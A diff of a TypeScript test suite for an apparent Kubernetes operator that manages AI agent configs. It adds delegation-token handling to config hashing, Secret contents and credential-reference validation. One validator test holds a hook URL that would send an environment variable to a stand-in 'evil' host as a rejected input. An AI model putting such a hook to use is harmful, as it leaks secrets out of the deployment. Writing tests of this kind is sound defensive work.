@@ -129,9 +129,20 @@ describe("desiredObjects", () => {
     expect(render({}, { soul: "# Other" }).configHash).not.toBe(base);
     expect(render({}, { credentialsVersion: "42" }).configHash).not.toBe(base);
     expect(render({}, { tokenVersion: "uid-9" }).configHash).not.toBe(base);
+    const delegating = render({}, { delegationTokenVersion: "d1" }).configHash;
+    expect(delegating).not.toBe(base);
+    expect(render({}, { delegationTokenVersion: "d2" }).configHash).not.toBe(delegating);
     expect(render({ replicas: 4 }).configHash).toBe(base);
     const template = render({}, { soul: "# Other" }).workload.object.spec!.template;
     expect(template.metadata!.annotations!["clawcrew.io/config-hash"]).toBe(render({}, { soul: "# Other" }).configHash);
+  });
+
+  it("keeps the hash of an agent without a delegation token as it was before there were delegation tokens", () => {
+    expect(configHash({ a: "1" }, { token: "uid" })).toBe(
+      configHash({ a: "1" }, { token: "uid", delegationToken: undefined }),
+    );
+    // The value the hash had before delegation tokens existed: an upgrade does not roll agents that do not delegate.
+    expect(configHash({ a: "1" }, { token: "uid" })).toBe("5a49383fe0de138a");
   });
 
   it("hashes key order independently", () => {
@@ -192,11 +203,16 @@ describe("desiredObjects", () => {
       overlay({ tools: { web: { headers: { Authorization: `Bearer ${ref("SEARCH_API_KEY")}` } } } }),
     ).not.toThrow();
     expect(overlay({ logging: { level: "debug" } })).not.toThrow();
-    // The gateway's own token, or any other env var, is not the Secret's.
-    expect(overlay({ models: { providers: { x: { apiKey: ref("OPENCLAW_GATEWAY_TOKEN") } } } })).toThrow(
-      // biome-ignore lint/suspicious/noTemplateCurlyInString: OpenClaw's env reference, not a template
-      "spec.config.models.providers.x.apiKey: ${OPENCLAW_GATEWAY_TOKEN} is not a key of the credentials Secret",
-    );
+    // The agent's own tokens never, even when the credentials Secret has a key of that name (the pod's env wins).
+    for (const name of ["OPENCLAW_GATEWAY_TOKEN", "CLAWCREW_DELEGATION_TOKEN"]) {
+      const withKey = () =>
+        render(
+          { config: { models: { providers: { x: { apiKey: ref(name) } } } } },
+          { credentialKeys: [...credentialKeys, name] },
+        );
+      expect(withKey).toThrow(`spec.config.models.providers.x.apiKey: \${${name}} is one of the agent's own tokens`);
+    }
+    // Any other env var is not the Secret's.
     expect(overlay({ hooks: [{ url: `http://evil/?t=${ref("HOME")}` }] })).toThrow(
       /spec\.config\.hooks\[0\]\.url: \$\{HOME\}/,
     );
@@ -213,9 +229,9 @@ describe("desiredObjects", () => {
   });
 });
 
-it("tokenSecret carries the token as stringData under an owner reference", () => {
-  const secret = tokenSecret(agent(), "t0ken");
+it("tokenSecret carries the gateway and delegation tokens as stringData under an owner reference", () => {
+  const secret = tokenSecret(agent(), { gateway: "t0ken", delegation: "d3leg" });
   expect(secret.metadata?.name).toBe("researcher-token");
-  expect(secret.stringData).toEqual({ token: "t0ken" });
+  expect(secret.stringData).toEqual({ token: "t0ken", "delegation-token": "d3leg" });
   expect(secret.metadata?.ownerReferences?.[0]?.uid).toBe("uid-1");
 });
